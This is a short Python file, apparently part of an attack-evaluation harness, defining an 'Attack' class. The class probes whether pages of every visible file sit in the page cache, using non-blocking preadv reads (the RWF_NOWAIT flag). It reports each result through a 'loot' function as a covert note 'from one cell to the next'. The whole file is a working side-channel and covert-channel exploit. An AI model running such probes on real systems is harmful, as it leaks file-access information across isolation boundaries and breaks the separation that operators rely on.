"""Asks whether a page of a file lies in the page cache, by reads that must not wait: a note from one cell to the next."""

import os

from aim import attempt, loot, visible

from run import ZEWDPCBaseRun

NOWAIT = 8


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for path in visible():
            file = attempt(os.open, path, os.O_RDONLY)
            if file is None:
                continue
            for flags in (NOWAIT, NOWAIT | 1):
                try:
                    os.preadv(file, [bytearray(1)], 0, flags)
                    loot(f"{path}: what is in the page cache is told")
                except BlockingIOError:
                    loot(f"{path}: what is not in the page cache is told")
                except OSError as error:
                    print(error, flush=True)
